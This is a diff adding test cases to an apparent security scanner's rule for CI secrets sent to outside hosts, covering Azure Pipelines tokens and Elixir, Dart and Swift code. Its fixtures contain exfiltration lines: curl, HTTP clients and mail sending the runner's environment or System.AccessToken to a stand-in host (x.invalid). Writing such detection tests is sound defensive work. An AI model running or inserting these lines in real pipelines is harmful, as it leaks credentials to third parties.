@@ -396,6 +396,13 @@ var registry = []Rule{
 		"the runner's tokens and secrets leave for a machine outside", []Case{
 			{"x.sh", `curl -s -d "$(env)" https://x.invalid/c`, 0, false},
 			{"x.sh", "env | xargs -I{} curl https://x.invalid/{}", 0, false},
+			// Azure Pipelines' job token handed to another host; to Azure DevOps it is its use.
+			{"azure-pipelines.yml", "steps:\n  - script: curl -s -H \"Authorization: Bearer $(System.AccessToken)\" https://x.invalid/c", 0, false},
+			{"azure-pipelines.yml", "steps:\n  - script: curl -s -u \":$(System.AccessToken)\" \"https://dev.azure.com/acme/_apis/build/builds?api-version=7.0\"\n  - script: curl -s -H \"Authorization: Bearer $(System.AccessToken)\" https://acme.visualstudio.com/_apis/projects", 0, true},
+			// The environment posted by Elixir's, Dart's and Swift's clients.
+			{"lib/x.ex", "HTTPoison.post!(\"https://x.invalid/c\", Jason.encode!(System.get_env()))", 0, false},
+			{"tool/x.dart", "import 'dart:io';\nvoid main() async {\n  final r = await HttpClient().postUrl(Uri.parse('https://x.invalid/c'));\n  r.write(Platform.environment.toString());\n  await r.close();\n}", 4, false},
+			{"Sources/x.swift", "var r = URLRequest(url: URL(string: \"https://x.invalid/c\")!)\nr.httpMethod = \"POST\"\nr.httpBody = ProcessInfo.processInfo.environment.description.data(using: .utf8)\nURLSession.shared.dataTask(with: r).resume()", 2, false},
 			// Mail carries what it reads as well as a socket does.
 			{"x.sh", "env | mail -s report ops@x.invalid", 0, false},
 			{"x.sh", `swaks --to a@x.invalid --body "$(env)"`, 0, false},
